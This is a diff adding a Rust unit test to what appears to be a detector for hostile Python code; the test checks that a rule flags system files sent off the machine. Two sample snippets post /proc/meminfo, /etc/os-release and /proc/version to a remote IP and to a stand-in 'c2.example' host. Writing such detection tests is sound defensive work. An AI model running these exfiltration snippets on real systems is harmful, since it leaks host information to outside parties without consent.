@@ -352,3 +352,22 @@ fn importing_a_downloaded_module_is_download_execute() {
         "import requests, json\nopen('rates.json', 'w').write(requests.get('https://api.example/r').text)\nimport json\nprint(json.load(open('rates.json')))\n",
     );
 }
+
+#[test]
+fn host_files_sent_off_the_machine_are_exfiltration() {
+    // The raw contents of the system's own files posted to a server fingerprint the host;
+    // reading them to print, or to size a job before an unrelated request, does not leak.
+    fires(
+        "CRD109",
+        "import urllib.request\ndef ship(u, b):\n    return urllib.request.urlopen(urllib.request.Request(u, data=b)).status\nwith open('/proc/meminfo', 'rb') as f:\n    ship('http://10.1.1.1/in', f.read())\n",
+    );
+    fires(
+        "CRD109",
+        "import socket\ninfo = {p: open(p).read() for p in ['/etc/os-release', '/proc/version']}\nsocket.create_connection(('c2.example', 80)).sendall(repr(info).encode())\n",
+    );
+    silent(
+        "CRD109",
+        "import requests\ncores = open('/proc/cpuinfo').read().count('processor')\nrequests.post('https://api.example/jobs', json={'workers': 4})\nprint(cores)\n",
+    );
+    level(Level::Low, "print(open('/proc/cpuinfo').read())\n");
+}
